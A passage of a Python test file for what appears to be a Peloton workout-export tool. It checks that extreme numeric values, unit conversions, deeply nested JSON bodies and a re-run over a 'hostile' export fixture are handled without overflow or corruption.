    workout = _normalize_bodies(bodies)
    assert all(t.end_offset <= MAX_OFFSET for t in workout.targets)


def test_a_huge_total_output_or_gps_distance_is_not_infinite() -> None:
    bodies = _bodies(synth_workout("outdoor_run", seed=1, duration_s=60))
    bodies["workout"].pop("total_work", None)
    graph = bodies["performance_graph"]
    graph["summaries"] = [{"slug": "total_output", "display_unit": "kj", "value": 1e308}]
    for segment in graph["location_data"]:
        for point in segment["coordinates"]:
            point["distance"] = 1e308
    workout = _normalize_bodies(bodies)
    assert workout.total_work_j is None
    assert workout.distance_m is None or math.isfinite(workout.distance_m)
    _check_model(workout)


def test_unit_conversions_never_return_infinity() -> None:
    from peloton_export.workout.units import (
        distance_to_m,
        energy_to_j,
        length_to_m,
        pace_to_mps,
        speed_converter,
    )

    pace = speed_converter("min/km")
    assert pace is not None and pace(5e-324) is None and pace(5.0) == pytest.approx(1000 / 300)
    assert pace_to_mps(5e-324, "min/mi") is None
    assert distance_to_m(1e308, "mi") is None and length_to_m(-1e308, "mi") is None
    assert energy_to_j(1e308, "mj") is None
    assert distance_to_m(1.0, "mi") == pytest.approx(1609.344)


def test_a_deeply_nested_archive_body_fails_alone(tmp_path: Path) -> None:
    archive = Archive(tmp_path / "archive")
    _put_control(archive)
    _put_titled(archive, "ab" * 16, "Deep")
    path = archive.body_path("ab" * 16, "performance_graph")
    path.write_bytes(b'{"x": ' + b"[" * 100_000 + b"]" * 100_000 + b"}")
    report, _ = _run(archive, tmp_path / "out")
    assert report.count("exported") == 1 and report.count("failed") == 1


def test_a_second_run_reads_the_hostile_summary_back(
    hostile_export: tuple[Path, ExportReport, dict[str, str]],
) -> None:
    root, _, ids = hostile_export
    summary = root / "out" / "summary.csv"
    before = summary.read_bytes()
    again, _ = _run(Archive(root / "archive"), root / "out")
    assert {r.status for r in again.results} == {"unchanged"}
    assert summary.read_bytes() == before
    rows = list(csv.DictReader(io.StringIO(before.decode("utf-8"), newline="")))
    assert sorted(row["workout_id"] for row in rows) == sorted(ids.values())
